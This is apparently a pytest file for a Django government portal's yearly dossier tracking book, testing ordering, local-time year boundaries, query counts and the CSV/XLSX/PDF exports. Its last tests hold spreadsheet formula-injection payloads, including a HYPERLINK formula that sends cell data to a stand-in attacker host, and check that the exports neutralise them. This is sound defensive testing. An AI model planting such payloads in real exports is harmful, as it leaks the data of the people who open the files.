"""The tracking book (Mẫu 06): one line per dossier a receiving agency took in during a year, in order of reception,
streamed with a constant number of queries and exported as CSV, XLSX and an A4 landscape PDF."""

import csv
import io
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from dossiers import filing, services
from dossiers.models import Dossier
from dossiers.pdf.store import dossier_form_html
from dossiers.tracking_book import (
    HEADERS,
    tracking_book_csv,
    tracking_book_line,
    tracking_book_pdf,
    tracking_book_rows,
    tracking_book_xlsx,
)
from portal.accounts.models import User
from portal.agencies.models import Agency
from portal.catalog.models import Procedure
from tests.dossiers.test_forms_pdf import _inflated, _media_box

pytestmark = pytest.mark.django_db
SCAN = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
LOCAL = ZoneInfo("Asia/Ho_Chi_Minh")


@pytest.fixture(autouse=True)
def _uploads_in_tmp(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {**settings.STORAGES["default"], "OPTIONS": {"location": tmp_path}},
    }


@pytest.fixture
def commune():
    return Agency.objects.filter(kind=Agency.Kind.COMMUNE).order_by("code").first()


@pytest.fixture
def other_commune(commune):
    return Agency.objects.filter(kind=Agency.Kind.COMMUNE).exclude(pk=commune.pk).order_by("code").first()


@pytest.fixture
def birth():
    return Procedure.objects.get(code="1.001193")


@pytest.fixture
def officers(make_user, commune, other_commune):
    return {
        "receiver": make_user("mc1", role=User.Role.ONESTOP_OFFICER, agency_code=commune.code),
        "handler": make_user("cv1", role=User.Role.HANDLING_OFFICER, agency_code=commune.code),
        "leader": make_user("ld1", role=User.Role.LEADER, agency_code=commune.code),
        "elsewhere": make_user("mc2", role=User.Role.ONESTOP_OFFICER, agency_code=other_commune.code),
    }


@pytest.fixture
def register(officers, birth, commune):
    def make(name: str, *, agency=None, officer=None, receive=True) -> Dossier:
        dossier = filing.dossier_register_at_counter(
            officer=officer or officers["receiver"],
            procedure=birth,
            receiving_agency=agency or commune,
            applicant=None,
            uploads=[("Tờ khai", SimpleUploadedFile("a.pdf", SCAN, content_type="application/pdf"))],
            applicant_name=name,
            applicant_address="Khóm 3, Phường Bình Đức",
            applicant_phone="0911000111",
        )
        if receive:
            services.dossier_receive(dossier=dossier, actor=officer or officers["receiver"])
        dossier.refresh_from_db()
        return dossier

    return make


def _received_at(dossier: Dossier, moment: datetime) -> Dossier:
    Dossier.objects.filter(pk=dossier.pk).update(received_at=moment)
    dossier.refresh_from_db()
    return dossier


def _complete(dossier, officers, commune):
    services.dossier_transfer(dossier=dossier, actor=officers["receiver"], handling_agency=commune)
    services.dossier_propose(dossier=dossier, actor=officers["handler"], note="Đủ điều kiện")
    services.dossier_approve(dossier=dossier, actor=officers["leader"])
    services.dossier_return_result(dossier=dossier, actor=officers["receiver"])
    dossier.refresh_from_db()
    return dossier


def test_the_book_lists_the_agencys_dossiers_of_the_year_in_order_of_reception(
    register, officers, commune, other_commune
):
    first, second = register("Nguyễn Văn An"), register("Trần Thị Bích")
    register("Chưa tiếp nhận", receive=False)
    register("Xã khác", agency=other_commune, officer=officers["elsewhere"])
    year = timezone.localtime(first.received_at).year
    rows = list(tracking_book_rows(agency=commune, year=year))
    assert [(r.line, r.code, r.applicant) for r in rows] == [
        (1, first.code, "Nguyễn Văn An"),
        (2, second.code, "Trần Thị Bích"),
    ]
    assert rows[0].procedure == "Thủ tục đăng ký khai sinh" and rows[0].sets == 1
    assert rows[0].address_phone == "Khóm 3, Phường Bình Đức, 0911000111"
    assert rows[0].received_at == first.received_at and rows[0].due_at == first.due_at


def test_a_finished_dossier_shows_transfer_result_and_return_times(register, officers, commune):
    dossier = _complete(register("Nguyễn Văn An"), officers, commune)
    [row] = tracking_book_rows(agency=commune, year=timezone.localtime(dossier.received_at).year)
    assert row.handling_agency == commune.name
    assert row.transferred_at == dossier.events.get(action="transfer").at
    assert row.result_at == dossier.events.get(action="approve").at
    assert row.returned_at == dossier.returned_at


def test_the_year_is_counted_in_local_time(register, commune):
    new_years_eve = register("Giao thừa")
    _received_at(new_years_eve, datetime(2025, 12, 31, 23, 30, tzinfo=LOCAL))  # 16:30 UTC
    new_year = register("Năm mới")
    _received_at(new_year, datetime(2026, 1, 1, 0, 15, tzinfo=LOCAL))  # still 31 December in UTC
    assert [r.applicant for r in tracking_book_rows(agency=commune, year=2025)] == ["Giao thừa"]
    assert [r.applicant for r in tracking_book_rows(agency=commune, year=2026)] == ["Năm mới"]
    assert tracking_book_line(new_year) == 1 and tracking_book_line(new_years_eve) == 1


def test_the_receipt_prints_the_same_line_as_the_book(register, commune):
    dossiers = [register(name) for name in ["An", "Bình", "Chi"]]
    year = timezone.localtime(dossiers[0].received_at).year
    lines = {row.code: row.line for row in tracking_book_rows(agency=commune, year=year)}
    for dossier in dossiers:
        assert tracking_book_line(dossier) == lines[dossier.code]
    assert f"Số thứ tự: {lines[dossiers[2].code]}." in dossier_form_html(dossier=dossiers[2], form_code="01")


def test_reading_the_book_takes_one_query_however_many_dossiers(
    register, officers, commune, django_assert_num_queries
):
    year = timezone.localdate().year
    _complete(register("An"), officers, commune)
    with django_assert_num_queries(1):
        assert len(list(tracking_book_rows(agency=commune, year=year))) == 1
    for name in ["Bình", "Chi", "Dũng"]:
        _complete(register(name), officers, commune)
    with django_assert_num_queries(1):
        assert len(list(tracking_book_rows(agency=commune, year=year))) == 4


def test_the_csv_opens_in_excel_with_vietnamese_headers(register, commune):
    dossier = register("Nguyễn Thị Hồng Nhung")
    chunks = list(tracking_book_csv(agency=commune, year=timezone.localtime(dossier.received_at).year))
    assert chunks[0].startswith("\ufeff")
    rows = list(csv.reader(io.StringIO("".join(chunks).removeprefix("\ufeff"))))
    assert rows[0] == list(HEADERS)
    assert rows[1][:5] == ["1", dossier.code, "Thủ tục đăng ký khai sinh", "1", "Nguyễn Thị Hồng Nhung"]
    assert rows[1][7] == f"{timezone.localtime(dossier.received_at):%d/%m/%Y %H:%M}"
    assert "".join(chunks).encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_the_xlsx_has_a_title_the_headers_and_local_times(register, commune):
    dossier = register("Nguyễn Thị Hồng Nhung")
    year = timezone.localtime(dossier.received_at).year
    sheet = load_workbook(io.BytesIO(tracking_book_xlsx(agency=commune, year=year))).active
    values = list(sheet.values)
    assert values[0][0] == f"SỔ THEO DÕI HỒ SƠ NĂM {year} – {commune.name}"
    assert list(values[1]) == list(HEADERS)
    assert values[2][:5] == (1, dossier.code, "Thủ tục đăng ký khai sinh", 1, "Nguyễn Thị Hồng Nhung")
    assert values[2][7] == timezone.localtime(dossier.received_at).replace(tzinfo=None, microsecond=0)


def test_the_printed_book_is_a4_landscape(register, commune):
    dossier = register("Nguyễn Thị Hồng Nhung")
    pdf = tracking_book_pdf(agency=commune, year=timezone.localtime(dossier.received_at).year)
    assert pdf.startswith(b"%PDF-")
    width, height = _media_box(pdf)
    assert width == pytest.approx(841.9, abs=0.5) and height == pytest.approx(595.3, abs=0.5)
    assert b"Portal-Sans" in _inflated(pdf)


def test_an_empty_year_prints_an_empty_book(commune):
    assert tracking_book_pdf(agency=commune, year=2001).startswith(b"%PDF-")
    [header] = tracking_book_csv(agency=commune, year=2001)
    assert list(csv.reader([header.removeprefix("\ufeff")])) == [list(HEADERS)]


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/"&D4,"x")', "@SUM(1+1)", "-2+3", "+cmd"]


def test_names_that_look_like_formulas_stay_text_in_the_xlsx(register, commune):
    names = [*FORMULA_NAMES, "#N/A"]
    dossiers = [register(name) for name in names]
    book = tracking_book_xlsx(agency=commune, year=timezone.localtime(dossiers[0].received_at).year)
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(book)).active
    cells = [row[4] for row in sheet.iter_rows(min_row=3)]
    assert [cell.value for cell in cells] == names
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_names_that_look_like_formulas_are_quoted_in_the_csv(register, commune):
    hostile = [*FORMULA_NAMES, "\tTab", "\rReturn"]
    dossiers = [register(name) for name in [*hostile, "Nguyễn Văn An"]]
    chunks = tracking_book_csv(agency=commune, year=timezone.localtime(dossiers[0].received_at).year)
    rows = list(csv.reader(io.StringIO("".join(chunks).removeprefix("\ufeff"))))
    names = [row[4] for row in rows[1:]]
    assert names == ["'" + name for name in hostile] + ["Nguyễn Văn An"]
    assert rows[1][1] == dossiers[0].code  # codes, dates and counts are left as they are
